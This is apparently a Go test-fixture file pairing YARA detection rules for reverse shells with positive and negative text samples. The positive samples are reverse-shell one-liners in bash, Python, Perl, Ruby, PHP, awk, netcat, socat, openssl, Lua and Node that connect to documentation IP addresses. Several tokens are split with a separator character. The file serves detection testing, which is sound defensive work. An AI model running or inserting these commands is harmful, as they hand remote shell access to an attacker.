package yara

// reverseShellSamples are the files of reverse_shell.yar.
func reverseShellSamples() []sample {
	return []sample{
		{
			rule: "reverse_shell_bash_dev_tcp",
			positive: text(`#!/b¦in/bash
b¦as¦h -i >& /dev/tcp/192.0.2.4/4444 0>&1
`),
			negative: text(`#!/b¦in/bash
exec 3<>/dev/tcp/192.0.2.4/80
printf 'HEAD / HTTP/1.0\r\n\r\n' >&3
`),
		},
		{
			rule: "reverse_shell_python_dup2",
			positive: text(`i¦mport s¦ocket,os,pty
s=s¦ocket.s¦ocket()
s.c¦onnect(("192.0.2.5",4444))
[o¦s.dup2(s.fileno(),f) f¦or f in (0,1,2)]
pty.spawn("/b¦in/sh")
`),
			negative: text(`i¦mport s¦ocket,os
s=s¦ocket.s¦ocket()
s.c¦onnect(("192.0.2.5",4444))
o¦s.dup2(s.fileno(), 1)
`),
		},
		{
			rule: "reverse_shell_perl_socket",
			positive: text(`#!/usr/bin/perl
u¦se Socket;
o¦pen(STDIN,">&S");o¦pen(STDOUT,">&S");open(STDERR,">&S");
e¦xec("/b¦in/sh -i");
`),
			negative: text(`#!/usr/bin/perl
u¦se Socket;
o¦pen(STDOUT,">&S");
e¦xec("/b¦in/sh", "-c", "date");
`),
		},
		{
			rule: "reverse_shell_ruby_socket",
			positive: text(`r¦equire 's¦ocket'
f=T¦CPSocket.open("192.0.2.6",4444).to_i
exec sprintf("/b¦in/sh -i <&%d >&%d 2>&%d",f,f,f)
`),
			negative: text(`r¦equire 's¦ocket'
f=T¦CPSocket.open("192.0.2.6",4444)
exec "/b¦in/sh", "-c", "date"
`),
		},
		{
			rule: "reverse_shell_php_fsockopen",
			positive: text(`<?p¦hp $sock=f¦sockopen("192.0.2.6",4444); e¦xec("/b¦in/sh -i <&3 >&3 2>&3"); ?>
`),
			negative: text(`<?p¦hp $sock=f¦sockopen("192.0.2.6",25); e¦xec("/usr/bin/id"); ?>
`),
		},
		{
			rule: "reverse_shell_awk_inet",
			positive: text(`#!/b¦in/sh
awk 'BEGIN {s = "/i¦net/tcp/0/192.0.2.6/4444"; while(42) { do{ s |& g¦etline c; while ((c |& g¦etline) > 0) print $0 |& s; } while(c != "exit") }}'
`),
			negative: text(`#!/b¦in/sh
awk 'BEGIN {s = "/i¦net/tcp/0/time.example.org/13"; s |& g¦etline t; print t}'
`),
		},
		{
			rule: "reverse_shell_netcat_fifo",
			positive: text(`#!/b¦in/sh
rm /t¦mp/f;mkfifo /t¦mp/f;cat /t¦mp/f|/b¦in/sh -i 2>&1|n¦c 192.0.2.6 4444 >/t¦mp/f
`),
			negative: text(`#!/b¦in/sh
mkfifo /t¦mp/f; cat /t¦mp/f | gzip | n¦c 192.0.2.6 4444
`),
		},
		{
			rule: "reverse_shell_socat_exec",
			positive: text(`#!/b¦in/sh
s¦ocat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:192.0.2.6:4444
`),
			negative: text(`#!/b¦in/sh
socat TCP-LISTEN:8080,fork TCP:192.0.2.6:80
`),
		},
		{
			rule: "reverse_shell_openssl_client",
			positive: text(`#!/b¦in/sh
mkfifo /t¦mp/s; /b¦in/sh -i < /t¦mp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.6:443 > /t¦mp/s
`),
			negative: text(`#!/b¦in/sh
echo | openssl s_client -connect 192.0.2.6:443 | openssl x509 -noout -dates
`),
		},
		{
			rule: "reverse_shell_lua_socket",
			positive: text(`local s = r¦equire("s¦ocket").tcp()
s:c¦onnect("192.0.2.6", 4444)
while true do local c = s:r¦eceive() local f = i¦o.popen(c, "r") s:send(f:read("*a")) end
`),
			negative: text(`local s = r¦equire("s¦ocket").tcp()
s:c¦onnect("192.0.2.6", 80)
print(s:r¦eceive())
`),
		},
		{
			rule: "reverse_shell_node_net",
			positive: text(`(function(){ var net = r¦equire("net"), cp = require("child_process"), sh = cp.spawn("/b¦in/sh", []);
var c = new net.Socket(); c.c¦onnect(4444, "192.0.2.6", function(){ c.p¦ipe(sh.stdin); sh.s¦tdout.pipe(c); }); })();
`),
			negative: text(`var net = r¦equire("net"), cp = require("child_process"), sh = cp.spawn("/b¦in/sh", ["-c", "date"]);
sh.s¦tdout.pipe(process.stdout);
`),
		},
	}
}
